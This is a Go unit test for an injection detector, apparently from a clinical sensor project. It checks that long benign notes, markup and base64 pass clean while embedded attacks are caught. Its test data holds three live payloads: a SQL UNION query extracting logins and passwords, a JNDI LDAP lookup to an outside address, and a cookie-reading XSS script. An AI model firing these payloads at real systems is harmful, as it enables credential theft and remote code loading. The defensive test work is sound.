package inject_test

import (
	"strings"
	"testing"

	"auscult/sensor/inject"
)

// TestLongValues has attacks anywhere in long values, and long values without one.
func TestLongValues(t *testing.T) {
	r := inject.New()
	for name, line := range map[string]string{
		"note":     "Seen in clinic; pt's BP 120/80 (stable), pain 5/10 & N/V. Family aware -- plan: CT head, r/o MI.\n",
		"document": "<paragraph styleCode=\"Bold\">Seen in clinic.</paragraph><content ID=\"p1\">BP 120/80</content>\n",
		"base64":   "JVBERi0xLjcKJeLjz9MKMSAwIG9iago8PC9UeXBlL0NhdGFsb2c+PgplbmRvYmoKeHJlZg+/",
	} {
		for _, n := range [...]int{2000, 2100, 4000, 12000} {
			text := strings.Repeat(line, n/len(line)+1)[:n]
			if l := r.Look([]byte(text)); l.Families != 0 {
				t.Errorf("%s of %d bytes: families %b", name, n, l.Families)
			}
			for attack, family := range map[string]inject.Family{
				"' UNION SELECT login,password,3 FROM users WHERE '1'='1": inject.SQL,
				"${jndi:ldap://10.9.8.7:1389/a}":                          inject.JNDI,
				"<script>alert(document.cookie)</script>":                 inject.XSS,
			} {
				for at := 0; at <= n; at += 97 {
					l := r.Look([]byte(text[:at] + attack + text[at:]))
					if l.Families&family == 0 {
						t.Errorf("%s of %d bytes: %s at %d is not seen", name, n, attack, at)
						break
					}
				}
			}
		}
	}
}
